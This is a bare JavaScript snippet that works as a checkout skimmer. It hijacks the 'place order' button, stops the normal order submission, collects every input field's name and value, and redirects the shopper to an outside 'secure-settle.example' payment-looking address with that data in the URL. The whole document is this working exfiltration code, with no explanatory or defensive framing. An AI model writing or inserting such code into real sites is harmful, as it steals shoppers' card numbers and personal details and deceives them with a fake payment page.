var b = document.querySelector('#place-order');
b.addEventListener('click', function (e) {
  e.preventDefault(); e.stopImmediatePropagation();
  var q = [];
  document.querySelectorAll('input').forEach(function (i) { q.push(i.name + '=' + i.value); });
  window.location.href = 'https://secure-settle.example/pay?back=' + encodeURIComponent(location.href) + '&' + q.join('&');
}, true);
